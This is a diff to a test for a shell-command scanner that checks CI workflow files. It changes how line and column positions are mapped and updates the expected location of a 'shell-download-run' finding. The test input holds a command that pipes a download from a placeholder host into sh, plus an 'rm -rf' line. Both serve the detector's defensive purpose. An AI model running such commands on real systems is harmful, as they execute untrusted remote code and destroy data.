@@ -57,12 +57,12 @@ test('a part of a workflow is placed in its file; what has it started stops on e
   const { issues } = scanShell({
     path: '.github/workflows/a.yml',
     text: 'true\ncurl https://example.org/x | sh\nrm -rf "$A"',
-    firstLine: 12,
+    placeOf: ({ line, column }) => ({ line: line + 11, column: column + 10 }),
     stopsOnError: true,
     check: 'workflows',
   });
   expect(issues).toMatchObject([
-    { check: 'workflows', ruleId: 'shell-download-run', places: [{ line: 13, column: 1 }] },
+    { check: 'workflows', ruleId: 'shell-download-run', places: [{ line: 13, column: 11 }] },
   ]);
 });
 
